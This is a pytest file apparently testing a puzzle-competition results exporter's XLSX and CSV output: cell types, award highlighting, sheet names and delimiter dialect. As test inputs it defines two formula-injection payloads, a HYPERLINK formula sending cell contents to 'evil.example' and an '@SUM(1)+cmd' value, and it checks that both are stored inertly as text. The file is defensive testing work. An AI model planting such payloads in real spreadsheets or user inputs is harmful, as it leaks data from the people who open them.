"""`tabletimer results DIR --xlsx FILE` (hub/outputs/results_xlsx.py) read
back with openpyxl cell by cell: types (times as time values, numbers as
numbers), award places marked, provisional said, text never a formula; one
sheet per round and the day's podiums; and the CSV's excel-semicolon
dialect."""

from __future__ import annotations

import codecs
import csv
import io
import time
import zipfile
from datetime import timedelta

import openpyxl

from outputs.test_day_results import make_day
from outputs.test_results import rogaland_event

from tabletimer.hub.cli import main as cli
from tabletimer.hub.outputs import results_xlsx

S, M = 1000, 60_000
GUEST = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
DQ = "@SUM(1)+cmd"


def rows_of(ws) -> list[list]:
    return [list(r) for r in ws.iter_rows(min_row=results_xlsx.HEADER_ROW, values_only=True)]


def test_a_rounds_sheet_read_back_cell_by_cell(tmp_path, capsys):
    ev = rogaland_event(tmp_path / "rogaland", guest=GUEST, dq_reason=DQ)
    out = tmp_path / "results.xlsx"
    assert cli.main(["results", str(ev), "--xlsx", str(out)]) == 0
    assert f"wrote the results as XLSX to {out}" in capsys.readouterr().err
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Results"]                      # an event of one round: one sheet
    ws = wb["Results"]
    assert ws["A1"].value == "rogaland" and ws["A2"].value.startswith("Provisional: some finishes")
    assert "Rogaland championship - individuals" in ws["A3"].value
    table = rows_of(ws)
    head = table[0]
    assert head[:14] == ["place", "award_place", "entrant", "name", "members", "official", "status", "reason",
                         "provisional", "time", "penalty", "net_time", "pieces", "deducted_pieces"]
    assert head[14:] == ["p1_status", "p1_time", "p1_lap", "p1_confirmed", "p1_missing_found", "p1_missing_lost",
                         "p1_missing_adjacent", "p1_penalty", "p1_pieces"]
    col = {name: i for i, name in enumerate(head)}
    by = {r[col["entrant"]]: r for r in table[1:]}
    assert [r[col["entrant"]] for r in table[1:]] == ["2", "3", "1", "4", "7", "6", "8", "5"]
    # numbers are numbers, times are time values, empty is None
    kari = by["1"]
    assert (kari[col["place"]], kari[col["award_place"]], kari[col["pieces"]]) == (3, 2, 498)
    assert kari[col["time"]] == timedelta(minutes=58, seconds=30)
    assert kari[col["penalty"]] == timedelta(seconds=10) and kari[col["net_time"]] == timedelta(minutes=58, seconds=40)
    assert kari[col["p1_missing_found"]] == 2 and kari[col["p1_penalty"]] == timedelta(seconds=10)
    assert by["4"][col["net_time"]] == timedelta(hours=1, minutes=10)            # truncated to the second
    assert by["2"][col["award_place"]] is None and by["2"][col["official"]] == "no"   # unofficial: no award
    assert by["5"][col["place"]] is None and by["5"][col["time"]] is None and by["5"][col["status"]] == "dns"
    assert by["6"][col["status"]] == "unfinished" and by["6"][col["pieces"]] == 460
    assert by["7"][col["provisional"]] == "yes" and by["1"][col["provisional"]] == "no"
    # a spreadsheet adds them: the stored values are days
    ola_row = 6 + [r[col["entrant"]] for r in table[1:]].index("3")
    cell = ws.cell(row=ola_row, column=col["net_time"] + 1)
    assert cell.number_format == "[h]:mm:ss" and cell.data_type == "d"
    assert sum((r[col["net_time"]] for r in table[1:5]), timedelta()) == timedelta(
        minutes=55 + 58 + 58, seconds=35 + 40) + timedelta(hours=1, minutes=10)
    # award places marked: bold row, the award cell filled gold, silver, bronze; provisional italic
    rownum = {r[col["entrant"]]: i for i, r in enumerate(table[1:], start=results_xlsx.HEADER_ROW + 1)}
    for entrant, color in (("3", "F5C518"), ("1", "CFD4DA"), ("4", "D99A5B")):
        award = ws.cell(row=rownum[entrant], column=2)
        assert award.fill.fill_type == "solid" and award.fill.start_color.rgb.endswith(color)
        assert ws.cell(row=rownum[entrant], column=4).font.b
    guest = ws.cell(row=rownum["2"], column=4)
    assert not guest.font.b and guest.fill.fill_type is None
    assert ws.cell(row=rownum["7"], column=4).font.i and not ws.cell(row=rownum["1"], column=4).font.i
    # formula-safe text: the name and the reason are text cells, as typed, with the quote prefix
    assert (guest.value, guest.data_type, guest.quotePrefix) == (GUEST, "s", True)
    reason = ws.cell(row=rownum["8"], column=col["reason"] + 1)
    assert (reason.value, reason.data_type, reason.quotePrefix) == (DQ, "s", True)
    assert not ws.cell(row=rownum["3"], column=4).quotePrefix
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    with zipfile.ZipFile(out) as z:
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.endswith(".xml"))
    assert ws.freeze_panes == "A6" and ws.auto_filter.ref == f"A5:W{5 + 8}"


def test_the_time_format_follows_the_resolution():
    assert [results_xlsx.time_format(ms) for ms in (1000, 100, 10, 1, 60_000)] == [
        "[h]:mm:ss", "[h]:mm:ss.0", "[h]:mm:ss.00", "[h]:mm:ss.000", "[h]:mm:ss"]
    assert results_xlsx.sheet_names(["a" * 32, "A" * 31 + "b", "x"]) == ["a" * 31, "A" * 29 + "~2", "x"]


def test_a_day_of_rounds_has_the_days_podiums_and_a_sheet_per_round(tmp_path, capsys):
    now = int(time.time() * 1000)
    hall = make_day(tmp_path, now)
    out = tmp_path / "day.xlsx"
    assert cli.main(["results", str(hall), "--xlsx", str(out)]) == 0
    err = capsys.readouterr().err
    assert "round pairs: provisional: round in progress" in err and "round teams: not started" in err
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["The day", "indiv", "pairs", "teams"]
    day = wb["The day"]
    assert day["A2"].value.startswith("Not every round is final (pairs in progress, teams not started)")
    table = rows_of(day)
    assert table[0] == results_xlsx.DAY_XLSX_COLUMNS
    assert [(r[0], r[2], r[3], r[5]) for r in table[1:]] == [
        ("indiv", "final", None, "2"), ("indiv", "final", 1, "1"), ("indiv", "final", 2, "3"),
        ("indiv", "final", 2, "4"), ("pairs", "in progress", 1, "P1"), ("pairs", "in progress", 2, "P2"),
        ("teams", "not started", None, None)]
    net = table[0].index("net_time")
    assert table[2][net] == timedelta(minutes=45) and table[6][table[0].index("provisional")] == "yes"
    assert day.cell(row=7, column=4).fill.start_color.rgb.endswith("F5C518")    # Jana: award place 1
    assert wb["indiv"]["A2"].value == "Final results"
    assert wb["indiv"]["A1"].value == "A day of rounds \u2014 indiv (CZJPA - individuals)"
    assert wb["pairs"]["A2"].value.startswith("Provisional: Round in progress, 1:00:00 left")
    assert wb["teams"]["A2"].value == "Not started: no results yet" and rows_of(wb["teams"])[1:] == []
    # one round's sheet only
    assert cli.main(["results", str(hall), "--round", "pairs", "--xlsx", str(out)]) == 0
    assert openpyxl.load_workbook(out).sheetnames == ["pairs"]
    assert cli.main(["results", str(hall), "--round", "nope", "--xlsx", str(out)]) == 2
    assert "no round 'nope'" in capsys.readouterr().err


def test_the_csv_in_the_excel_semicolon_dialect(tmp_path, capsys):
    ev = rogaland_event(tmp_path / "rogaland", guest=GUEST)
    out = tmp_path / "r.csv"
    assert cli.main(["results", str(ev), "--csv", str(out), "--dialect", "excel-semicolon"]) == 0
    raw = out.read_bytes()
    assert raw.startswith(codecs.BOM_UTF8)
    text = raw.decode("utf-8-sig")
    assert text.splitlines()[0].startswith('"place";"award_place";"entrant";"name"')
    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0]["name"] == "'" + GUEST and rows[1]["net_time"] == "0:58:35"
    capsys.readouterr()
    assert cli.main(["results", str(ev), "--csv", "-", "--dialect", "excel-semicolon"]) == 0
    assert capsys.readouterr().out.startswith('\ufeff"place";')            # a BOM on stdout too
    assert cli.main(["results", str(ev), "--csv", "-"]) == 0
    assert capsys.readouterr().out.startswith('"place","award_place"')      # the default: as before
    assert cli.main(["results", str(ev), "--day", "--csv", "-", "--dialect", "excel-semicolon"]) == 0
    assert capsys.readouterr().out.startswith('\ufeff"round";"format_title"')
